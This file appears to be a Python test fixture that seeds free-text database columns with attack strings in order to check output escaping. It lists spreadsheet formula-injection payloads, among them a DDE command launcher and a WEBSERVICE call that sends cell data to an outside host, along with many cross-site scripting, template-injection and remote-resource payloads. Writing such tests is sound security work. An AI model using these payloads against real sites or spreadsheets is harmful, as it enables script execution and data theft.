"""What an attacker types wherever something can be typed, and how it gets past every check into a database."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from data.model import Base

if TYPE_CHECKING:
    from collections.abc import Sequence

    from pysqlite3.dbapi2 import Connection

FORMULAS: Final = (
    '=HYPERLINK("http://example.org","点我")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/c calc'!A1",
    '=WEBSERVICE("http://example.org/"&A1)',
)
RUN: Final = "window.__pwned=1"
SCRIPTS: Final = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"' autofocus onfocus={RUN} x='",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<details open ontoggle={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"[x](javascript:{RUN})",
    "![x](http://127.0.0.2:1/pixel.png)",
    "<img src=http://127.0.0.2:1/pixel.png>",
    "<style>@import 'http://127.0.0.2:1/x.css';*{background:url(http://127.0.0.2:1/y.png)}</style>",
    "<link rel=stylesheet href=http://127.0.0.2:1/x.css>",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "<base href=http://127.0.0.2:1/>",
    "\u202egnp.exe\u202c<b>粗</b>",
    f"<!--><math><mi xlink:href=data:x,<script>{RUN}</script>>-->",
)
FREE: Final = frozenset(
    {
        "title",
        "name",
        "name_original",
        "note",
        "text",
        "author",
        "assessor",
        "person",
        "leader",
        "reason",
        "responsible_unit",
        "position",
        "source",
        "chair",
        "attended",
        "excused",
        "observers",
        "given_by",
        "whom",
        "decided_by",
        "exception",
        "problem",
        "remedy",
        "crop",
        "enterprise",
        "cooperative",
        "before",
        "after",
        "actor",
        "subject_name",
        "file_name",
    }
)
"""Columns in which people write what they like."""


def write(database: Connection, county: str, texts: Sequence[str]) -> int:
    """Write each of the texts, in turn, into every free text of a county; gives how many rows were changed."""
    choice = " ".join(f"WHEN {index} THEN ?" for index in range(len(texts)))
    changed = 0
    for table in Base.metadata.sorted_tables:
        if "county_code" not in table.columns:
            continue
        for column in FREE & set(table.columns.keys()):
            if not table.columns[column].primary_key:
                statement = (
                    f'UPDATE "{table.name}" SET "{column}" = CASE (rowid + ?) % {len(texts)} {choice} END '  # noqa: S608
                    f"WHERE county_code = ? AND \"{column}\" <> ''"
                )
                values = (len(column), *texts, county)
                changed += database.execute(statement, values).rowcount
    return changed
